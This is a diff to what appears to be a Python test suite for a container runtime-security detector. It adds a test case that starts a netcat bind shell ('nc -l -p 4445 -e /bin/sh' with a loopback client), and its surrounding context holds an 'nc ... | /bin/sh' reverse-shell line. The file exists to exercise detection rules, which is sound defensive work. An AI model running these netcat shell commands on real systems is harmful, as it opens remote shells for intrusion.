@@ -87,6 +87,8 @@ def second_shell(ev: Event) -> bool:
             and ev.argv == ("/bin/sh", "-c", "true"))  # fmt: skip
 
 
+BIND_SHELL = ("/usr/bin/nc -l -p 4445 -e {prog} & /bin/sleep 0.5;"
+              " echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
 NETCAT_PLAIN = sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null")
 PTRACE_ATTACH = Scenario(("cauditd_probe", "ptrace"), PTRACE)
 SSH_KEY = (
@@ -201,6 +203,11 @@ CASES: list[Case] = [
             " > /tmp/f"), "container.image", TEST_IMAGE,
          sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null | /bin/sh; echo id | /bin/sh"),
          exec_of("/usr/bin/nc"), "fifo"),
+    # a bind shell: nc dups the connection it accepted onto 0 and 1, then execs the shell (the
+    # client is in the same container, over its own loopback; busybox nc listens on IPv6)
+    Case("Shell started with a network socket on its stdio",
+         sh(BIND_SHELL.format(prog="/bin/sh")), "proc.stdin.type", "ipv6",
+         sh(BIND_SHELL.format(prog="/bin/cat")), exec_of("/bin/cat"), "bind-shell"),
     # privilege.toml
     Case("io_uring set up in container",
          Scenario(("cauditd_evade", "uring-setup")), "evt.arg.entries", "4",
